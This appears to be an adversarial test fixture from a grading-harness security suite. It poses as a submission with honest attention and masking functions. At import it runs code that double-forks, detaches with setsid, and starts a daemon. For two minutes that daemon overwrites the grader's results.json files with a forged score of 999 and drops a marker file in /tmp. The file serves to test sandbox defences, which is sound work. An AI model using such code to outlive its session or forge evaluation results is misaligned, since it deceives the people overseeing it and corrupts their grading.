# ruff: noqa
"""ATTACK outlive_daemon (class: processes outliving the child; forged results, late).

Intent: leave a daemon behind that rewrites results after the grader has written them.
At import it double-forks, the grandchild calls setsid() (leaving the child's process
group and session, so killing those misses it) and execs a fresh Python whose argv
carries MARK and which, for up to 120 s, rewrites every results.json in the results
directory (a well-known path) with FORGED-<token>-outlive_daemon every 0.2 s and creates
/tmp/bertlab_pwned_<token>_outlive_daemon. It keeps every inherited descriptor open. All
four functions are honest.

Expected: 17/17; no results file is forged; no process with MARK is left once grading
ends; no /tmp/bertlab_pwned_<token>_outlive_daemon.
"""

import math
import os
import sys

import torch

ATTACK = "outlive_daemon"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox
RESULTS_DIR = "__RESULTS_DIR__"


DAEMON = f"""
import json, os, time
forged = json.dumps({{"score": 999.0, "output": "FORGED-{TOKEN}-{ATTACK}", "tests": []}})
end = time.time() + 120
while time.time() < end:
    try:
        open("{PWNED}", "a").close()
    except OSError:
        pass
    try:
        for name in os.listdir("{RESULTS_DIR}"):
            path = os.path.join("{RESULTS_DIR}", name, "results.json")
            if os.path.exists(path):
                with open(path, "w") as f:
                    f.write(forged)
    except OSError:
        pass
    time.sleep(0.2)
"""


def _daemonize():
    try:
        pid = os.fork()
    except OSError:
        return
    if pid:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
        return
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", DAEMON, MARK])
    except BaseException:
        pass
    os._exit(0)


_daemonize()


def softmax(x, dim=-1):
    # subtract the max so that exp() never overflows
    x_max = x.max(dim=dim, keepdim=True).values
    e = torch.exp(x - x_max)
    return e / e.sum(dim=dim, keepdim=True)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
